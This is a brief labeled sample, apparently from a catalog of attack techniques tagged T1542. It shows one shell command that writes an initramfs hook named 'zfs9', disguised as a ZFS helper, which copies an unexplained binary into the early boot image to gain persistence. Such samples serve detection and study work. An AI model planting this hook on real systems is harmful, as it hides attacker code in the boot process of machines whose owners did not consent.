# technique: T1542
# location: linux.initramfs.hook
# source: /etc/initramfs-tools/hooks/zfs9
install -D -m 755 /dev/stdin /etc/initramfs-tools/hooks/zfs9 <<< '#!/bin/sh
cp /usr/local/lib/lr "$DESTDIR/bin/"'
